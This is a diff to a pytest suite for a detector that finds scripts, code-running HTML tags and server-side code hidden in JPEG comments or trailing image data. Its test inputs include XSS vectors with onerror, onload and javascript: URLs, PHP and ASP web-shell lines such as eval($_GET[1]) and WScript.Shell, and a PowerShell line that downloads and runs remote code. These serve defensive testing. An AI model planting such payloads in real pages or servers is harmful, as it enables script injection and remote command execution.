@@ -63,9 +63,59 @@ def test_finds_whole_scripts_in_which_something_runs(fired: Fired) -> None:
         b"<script>" + b"// nothing\n" * 80 + b"alert(1)</script>",
         b"<script type='a/b'>alert(1)//",
         b"<script>[]['at'](1)</script>",
+        b"<script src='data:text/javascript,a()'>",
+        b'<script async src="https://platform.twitter.com.example.org/widgets.js"></script>',
+        b'<script async src="https://platform.twitter.com/widgets.js">a()</script>',
+        b'<script src="//example.org/a.js" src="https://platform.twitter.com/widgets.js"></script>',
     ]
     files = in_comments(scripts)
     assert places(fired(RULE, files)) == dict.fromkeys(files, "a script in HTML in the comment of the JPEG")
+
+
+@pytest.mark.parametrize(
+    "tag",
+    [
+        b"<svg/onload=print(1)>",
+        b"<img/src=x/onerror=print(1)>",
+        b"<img src=x onerror=\"location='//x'\">",
+        b"<img src=x onerror=&#97;lert(1)>",
+        b"<body onpageshow=print`1`>",
+        b"<marquee onstart=print(1)>",
+        b"<x onanimationend=print(1)>",
+        b"<select autofocus onfocus=print(1)>",
+        b"<video><source onerror=print(1)>",
+        b"<button onclick=print(1)>x</button>",
+        b"<svg><animate onbegin=print(1)>",
+        b'<a href="javascript:print(1)">x</a>',
+        b"<a href=javascript:void(fetch('//x'))>x</a>",
+        b'<a href=" javascript:print%281%29">x</a>',
+        b"<math><a xlink:href=javascript:print(1)>",
+        b"<form action=javascript:print(1)><button>",
+        b"<embed src=javascript:print(1)>",
+        b'<object data="data:text/html;base64,PHNjcmlwdD4=">',
+    ],
+)
+def test_finds_tags_that_run_code_however_they_are_written(fired: Fired, tag: bytes) -> None:
+    files = in_comments([tag]) | {"behind.jpg": jpeg(photo("a")) + tag}
+    found = {file: said.partition(" in HTML ")[0] for file, said in places(fired(RULE, files)).items()}
+    assert found == dict.fromkeys(files, "a script")
+
+
+@pytest.mark.parametrize(
+    "widget",
+    [
+        b'<iframe style="border-radius:12px" src="https://open.spotify.com/embed/track/1" width="100%" height="352"'
+        b' frameBorder="0" allowfullscreen="" allow="autoplay" loading="lazy"></iframe>',
+        b'<iframe src="https://player.vimeo.com/video/1?h=2" style="position:absolute;width:100%" allow="autoplay; fullscreen"'
+        b' allowfullscreen></iframe><script src="https://player.vimeo.com/api/player.js"></script>',
+        b'<a data-flickr-embed="true" href="https://www.flickr.com/photos/x/1"></a>'
+        b'<script async src="//embedr.flickr.com/assets/client-code.js" charset="utf-8"></script>',
+        b'<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
+        b'<script async src="//www.instagram.com/embed.js"></script>',
+    ],
+)
+def test_is_silent_about_what_sites_give_away_for_captions(fired: Fired, widget: bytes) -> None:
+    assert fired(RULE, in_comments([widget])) == {}
 
 
 def test_finds_pages_with_blanks_and_text_where_they_may_stand(fired: Fired) -> None:
@@ -111,6 +161,18 @@ def test_is_silent_about_words_on_switches_and_tags(fired: Fired, encoding: str)
         "<?php new features; slides",
         "<?php use it with care; slide 3",
         "<b><?php opens a block; echo prints</b>",
+        "the tag <?php opens a block, ?> closes it",
+        "<?php opens a block; ?> closes it",
+        "PHP (<?php ... ?>) elephant mascot",
+        "<?php code on screen ?>, a hacker",
+        "<?php echo of the mountains ?>",
+        "The attribute in <svg onload=...> is dangerous, slide 5",
+        '<img onerror=""> and <body onload> have attributes',
+        "<iframe /> and <iframe src=...> are tags",
+        '<item onsale="yes(1)" one="a(b)"/>',
+        '<a href="javascript:void(0)">A lake</a>, <a href="javascript:;">a hill</a>',
+        "<script src=hack.js> on a neon sign",
+        '<!DOCTYPE html>\n<html lang="en"> on the projector in class',
         'Talk: <iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
         '<iframe src="//example.org/1" width="100%" height="400" style="border:0;" loading="lazy" title="a (b)"></iframe>',
     ]
@@ -147,6 +209,19 @@ def test_finds_what_a_server_or_a_shell_would_run(fired: Fired, encoding: str) -
         "<?php echo new Foo;",
         "<?php echo new Foo ?>",
         "<?php is a tag <?php system($_GET[0]); ?>",
+        "<?php echo new Foo; ?>",
+        "<?php use A as B; new B; ?>",
+        "<?php echo `id` ?>",
+        "<?php include 'a.php' ?>",
+        "<?php @include '/a' ?>",
+        "<?php echo FOO ?>",
+        '<?=system("id");',
+        "<?=eval($_GET[1]);",
+        "<?= `$_GET[0]`;",
+        "<%! public String a(String b) { return b; } %>",
+        '<%@ WebHandler Language="C#" Class="X" %>',
+        '<%Process.Start("cmd")%>',
+        '<% Dim a : Set a = Server.CreateObject("WScript.Shell") %>',
         "powershell -nop Get-Process | Out-File a",
         "powershell -ep bypass C:\\a.ps1",
         "powershell -nop iex (iwr http://x)",
@@ -188,6 +263,9 @@ def test_finds_frames_that_are_not_known_to_be_in_view_and_to_run_nothing(fired:
         b'<iframe src="//example.org/x" src="javascript:x()" ' + size + b">",
         b'<iframe src="data:text/html,x" ' + size + b">",
         b"<iframe src=//example.org/x width=560 height=315>",
+        b"<iframe/src=//example.org/x>",
+        b'<iframe src="https://www.youtube.com@example.org/x">',
+        b'<iframe src="https://www.youtube.com/embed/x" onload="x()">',
     ]
     files = in_comments(frames)
     assert places(fired(RULE, files)) == dict.fromkeys(files, "a script in HTML in the comment of the JPEG")
@@ -213,6 +291,10 @@ def test_openings_that_lead_to_nothing_hide_no_code_behind_them(opening: bytes, 
     found = markup.find(data, 0, len(data))
     assert found is not None
     assert (found.kind, found.start) == ("php", len(opening) * number)
+
+
+def test_a_short_tag_that_prints_takes_a_value_and_no_statement() -> None:
+    assert markup.find(b"<?=IF=C=AD=>?FH@>BG?>", 0, 21) is None
 
 
 @pytest.mark.parametrize("between", [b"\x80%", b"%\x80", b"\0\0"])
